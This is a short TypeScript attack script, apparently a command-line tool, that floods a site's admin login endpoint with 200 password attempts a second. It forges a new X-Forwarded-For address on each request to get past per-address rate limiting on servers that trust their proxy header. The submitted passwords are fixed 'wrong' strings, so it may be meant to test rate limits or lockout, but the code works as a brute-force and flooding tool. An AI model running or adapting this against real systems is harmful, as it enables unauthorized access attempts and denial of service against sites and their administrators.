// Guesses the admin password 200 times a second, each time from another address, until it is killed. Usage: URL
const [url = ''] = process.argv.slice(2)
const perTick = 10
let attempt = 0

setInterval(() => {
  for (let turn = 0; turn < perTick; turn += 1) guess()
}, 50)
console.log('guessing')

function guess(): void {
  attempt += 1
  // A site that listens on this machine alone believes its proxy.
  const address = `10.${(attempt >> 16) & 255}.${(attempt >> 8) & 255}.${attempt & 255}`
  const headers = { 'content-type': 'application/json', 'x-forwarded-for': address }
  const body = JSON.stringify({ password: `wrong ${attempt}` })
  fetch(`${url}/api/admin/login`, { method: 'POST', headers, body })
    .then((response) => response.body?.cancel())
    .catch(() => undefined)
}
